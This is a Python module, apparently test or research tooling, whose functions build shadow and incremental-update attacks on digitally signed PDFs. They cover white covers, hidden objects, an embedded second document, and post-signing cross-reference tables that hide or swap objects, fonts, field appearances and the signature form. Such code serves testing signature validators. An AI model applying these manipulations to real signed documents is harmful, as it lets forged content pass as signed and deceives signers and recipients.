"""Attacks on signed PDFs: what the signer saw is hidden or replaced later, and nothing of the signed part changed."""

from __future__ import annotations

import re
from io import BytesIO

import pikepdf
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    DictionaryObject,
    NumberObject,
    StreamObject,
    pdf_name,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

HIDDEN_OBJECT = b"\n%d 0 obj\n<< /Length 0 >>\nstream\n\nendstream\nendobj\n"
_WHITE = b"q 1 1 1 rg 0 0 600 850 re f Q"


def with_cover(data: bytes) -> tuple[bytes, int]:
    """A PDF, before it is signed, with a white sheet over its first page; and the number of that object."""
    with pikepdf.open(BytesIO(data)) as pdf:
        page = pdf.pages[0]
        page.contents_coalesce()
        page.obj.Contents = pikepdf.Array([page.obj.Contents, pdf.make_indirect(pdf.make_stream(_WHITE))])
        out = BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    kept = out.getvalue()
    return kept, _first_page(PdfFileReader(BytesIO(kept)))["/Contents"].raw_get(1).idnum


def with_hidden_object(data: bytes, number: int) -> tuple[bytes, int]:
    """A PDF, before it is signed, with an empty object of that number that no table names; and where it lies."""
    at = _table_of(data)
    hidden = HIDDEN_OBJECT % number
    told = data[at:].replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(hidden)))
    return data[:at] + hidden + told, at + 1


def with_shadow(data: bytes) -> bytes:
    """A PDF, before it is signed, with a whole other document within it that nothing shows."""
    with pikepdf.open(BytesIO(data)) as pdf:
        pages = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Pages, Count=1, Kids=pikepdf.Array([])))
        drawn = pdf.make_stream(b"0 0 300 300 re f")
        box = pikepdf.Array([0, 0, 595, 842])
        page = pikepdf.Dictionary(Type=pikepdf.Name.Page, Parent=pages, MediaBox=box, Contents=drawn)
        pages.Kids.append(pdf.make_indirect(page))
        pdf.Root.Shadow = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Catalog, Pages=pages))
        out = BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
        return out.getvalue()


def without_object(data: bytes, number: int) -> bytes:
    """A signed PDF to which a table was added that says an object is not there."""
    return _with_table(data, b"%d 1\n0000000000 00001 f \n" % number)


def with_object_at(data: bytes, number: int, at: int) -> bytes:
    """A signed PDF to which a table was added that says that an object lies elsewhere within the signed part."""
    return _with_table(data, b"%d 1\n%010d 00000 n \n" % (number, at))


def with_empty_object(data: bytes, number: int) -> bytes:
    """A signed PDF to which an empty object was added in place of another."""
    return _with_table(data + HIDDEN_OBJECT % number, b"%d 1\n%010d 00000 n \n" % (number, len(data) + 1), data)


def with_shadow_shown(data: bytes) -> bytes:
    """A signed PDF to which a table was added that names the other document within it."""
    return _with_table(data, b"", root=PdfFileReader(BytesIO(data)).root.raw_get("/Shadow").idnum)


def with_other_font(data: bytes) -> bytes:
    """A signed PDF whose first font was exchanged, as an addition."""
    writer = IncrementalPdfFileWriter(BytesIO(data), strict=False)
    fonts = _first_page(writer)["/Resources"]["/Font"]
    font = fonts[next(iter(fonts))]
    font[pdf_name("/BaseFont")] = pdf_name("/Courier")
    writer.update_container(font)
    return _written(writer)


def with_other_look(data: bytes, name: str) -> bytes:
    """A signed PDF in which a form field looks otherwise, while its value stays, as an addition."""
    writer = IncrementalPdfFileWriter(BytesIO(data), strict=False)
    box = ArrayObject([NumberObject(each) for each in (0, 0, 200, 20)])
    kind = {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"), pdf_name("/BBox"): box}
    look = writer.add_object(StreamObject(dict_data=kind, stream_data=b"0 0 100 10 re f"))
    for each in (each.get_object() for each in writer.root["/AcroForm"]["/Fields"]):
        if each.get("/T") == name:
            each[pdf_name("/AP")] = DictionaryObject({pdf_name("/N"): look})
            writer.update_container(each)
    return _written(writer)


def without_form(data: bytes) -> bytes:
    """A signed PDF whose form, with the place of the signature, was taken out, as an addition."""
    writer = IncrementalPdfFileWriter(BytesIO(data), strict=False)
    del writer.root["/AcroForm"]
    writer.update_root()
    return _written(writer)


def _with_table(data: bytes, entries: bytes, before: bytes = b"", root: int | None = None) -> bytes:
    reader = PdfFileReader(BytesIO(before or data))
    named, size = root or reader.trailer.raw_get("/Root").idnum, int(reader.trailer["/Size"])
    table = b"xref\n0 1\n0000000000 65535 f \n" + entries
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (size, named, _table_of(before or data))
    return data + b"\n" + table + trailer + b"startxref\n%d\n%%%%EOF\n" % (len(data) + 1)


def _table_of(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def _first_page(pdf: PdfFileReader | IncrementalPdfFileWriter) -> DictionaryObject:
    page: DictionaryObject = pdf.root["/Pages"]["/Kids"][0]
    return page


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    file = BytesIO()
    writer.write(file)
    return file.getvalue()
